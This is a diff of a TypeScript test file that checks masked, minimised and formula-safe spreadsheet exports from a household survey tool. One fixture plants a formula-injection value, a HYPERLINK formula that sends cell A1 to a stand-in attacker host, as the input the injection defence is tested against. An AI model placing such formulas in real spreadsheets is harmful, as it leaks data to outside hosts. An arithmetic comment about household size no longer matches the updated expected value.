@@ -13,7 +13,8 @@ import { FIRST_CARD, fillCard } from '../support/card-driver.js';
 import { findPeople } from '../../src/db/people-repo.js';
 import { auditLog, households } from '../../src/db/schema.js';
 
-const ID = '11010519491231002X';
+/** The head's ID number as the demo roster holds it (born 1965-03-02). */
+const ID = '41052319650302123X';
 
 let h: Harness;
 let sup: TestUser;
@@ -28,12 +29,8 @@ beforeAll(async () => {
   await u.send('/visit');
   await u.press('H0001');
   await u.press('开始填写');
-  // the head is a member too: his birth date is the one inside his ID number
-  await fillCard(h, u, findPeople(h.db, helper.name)[0].id, 'H0001', {
-    ...FIRST_CARD,
-    'members.birth_date': ['text:1949-12-31', 'text:1968-07-15'],
-    'members.id_number': [`text:${ID}`, 'press:跳过'],
-  });
+  // the head is member 1 too: his birth date is read from his ID number
+  await fillCard(h, u, findPeople(h.db, helper.name)[0].id, 'H0001', FIRST_CARD);
   await u.press('提交这张卡');
   // names that came in before the roster checks, or through another tool
   h.db.update(households).set({ headName: '=HYPERLINK("http://evil.example/?x="&A1,"点我")' }).where(eq(households.code, 'H0002')).run();
@@ -77,14 +74,14 @@ describe('exports: minimised, masked, safe to re-save, recorded', () => {
     const wb = await exportOf('全部动态信息卡');
     const members = records(wb.getWorksheet('家庭成员')!);
     const head = members.find((m) => m['姓名'] === '李大山')!;
-    expect(String(head['身份证号'])).toMatch(/^110105\*{12}$/);
-    expect(String(head['出生日期'])).toBe('1949');
+    expect(String(head['身份证号'])).toMatch(/^410523\*{12}$/);
+    expect(String(head['出生日期'])).toBe('1965');
     const card = records(wb.worksheets[0])[0];
     for (const birth of members.map((m) => String(m['出生日期']))) {
       expect(rebuild(String(head['身份证号']), birth)).toBeUndefined();
       expect(rebuild(String(card['户主身份证号']), birth)).toBeUndefined();
     }
-    expect(allCells(wb).some((c) => c.includes(ID) || c.includes('1949-12-31') || c.includes('19491231'))).toBe(false);
+    expect(allCells(wb).some((c) => c.includes(ID) || c.includes('1965-03-02') || c.includes('19650302'))).toBe(false);
   });
 
   it('positions, photos and members’ health and disability are in no sheet', async () => {
@@ -103,7 +100,7 @@ describe('exports: minimised, masked, safe to re-save, recorded', () => {
     expect(headers.length).toBe(new Set(headers).size);
     const card = records(ws)[0];
     // 16000 + 6000 + 0 + 1200 − 1500 = 21700 for 2 people
-    expect(card).toMatchObject({ 家庭纯收入: 21700, 人均纯收入: 10850, '当年贫困标准（元/人·年）': 2952, 人均纯收入高于贫困标准: '是' });
+    expect(card).toMatchObject({ 家庭纯收入: 21700, 人均纯收入: 7233.33, '当年贫困标准（元/人·年）': 2952, 人均纯收入高于贫困标准: '是' });
   });
 
   it('the households export fills every column it promises', async () => {
@@ -112,7 +109,7 @@ describe('exports: minimised, masked, safe to re-save, recorded', () => {
     const rows = records(ws);
     const empty = Object.keys(rows[0]).filter((k) => rows.every((r) => r[k] === null || r[k] === ''));
     expect(empty).toEqual([]);
-    expect(rows.find((r) => r['户编号'] === 'H0001')!['户主身份证号']).toBe('110105************');
+    expect(rows.find((r) => r['户编号'] === 'H0001')!['户主身份证号']).toBe('410523************');
   });
 
   it('text cannot become a formula when re-saved as CSV; hidden characters are stripped', async () => {
